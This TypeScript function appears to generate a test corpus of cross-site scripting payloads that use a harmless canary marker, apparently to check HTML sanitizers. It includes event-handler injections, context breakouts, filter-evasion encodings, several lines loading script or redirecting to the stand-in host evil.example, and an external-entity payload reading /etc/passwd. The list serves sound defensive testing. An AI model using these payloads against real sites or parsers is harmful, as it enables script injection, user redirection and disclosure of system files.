/** Elements and attributes that run a script when a text is treated as markup. */
export function markup(mark: string): string[] {
  const run = `window.${mark}=1`;
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onanimationstart',
    'onbegin',
    'onpageshow',
  ];
  const elements = [
    'img src=x',
    'svg',
    'input autofocus',
    'details open',
    'video src=x',
    'body',
    'iframe',
    'a href=#',
    'marquee',
    'object data=x',
    'style',
    'math',
    'select autofocus',
    'audio src=x',
  ];
  const quotes = ['', '">', "'>", '`>', '</title>', '</textarea>', '</script>', '--><', ']]>', '</style>'];
  return [
    ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${run}>`)),
    ...quotes.flatMap((quote) => [
      `${quote}<script>${run}</script>`,
      `${quote}<img src=x onerror=${run}>`,
      `${quote}<svg/onload=${run}>`,
      `${quote} onfocus=${run} autofocus x=`,
      `${quote}javascript:${run}`,
    ]),
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script\u0020src=//evil.example/x.js></script>`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
    `<base href=//evil.example/>`,
    `<form action=//evil.example><button>`,
    `<style>*{display:none}</style>`,
    `<iframe srcdoc="<script>${run}</script>">`,
    `<template><script>${run}</script></template>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\u003cscript\\u003e${run}`,
    `\\x3cscript\\x3e${run}`,
    `<!--<script>${run}//-->`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    `<![CDATA[<script>${run}</script>]]>`,
  ];
}
